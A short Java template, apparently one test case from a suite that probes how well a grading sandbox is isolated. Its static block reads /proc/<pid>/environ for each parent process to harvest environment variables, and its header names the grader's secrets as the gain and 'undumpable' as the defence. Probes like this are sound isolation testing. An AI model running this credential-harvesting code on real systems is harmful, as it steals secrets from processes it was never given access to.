// ---
// tries: Reads the environment of its parent and of the first process, for what it was not given itself.
// place: before
// gain: whatever the grader keeps in its environment
// helps: undumpable
// ---
  static {
    var known = new java.util.HashSet<String>();
    System.getenv().forEach((name, value) -> known.add(name + "=" + value));
    for (long pid : Attack.parents()) {
      var file = new java.io.File("/proc/" + pid + "/environ");
      for (String each : Attack.excerpt(file).split("\0")) {
        if (each.isEmpty() || known.contains(each) || each.matches("(?s)(_|PWD|OLDPWD|SHLVL)=.*")) continue;
        Attack.read(file.getPath(), each);
      }
    }
  }
@BODY@
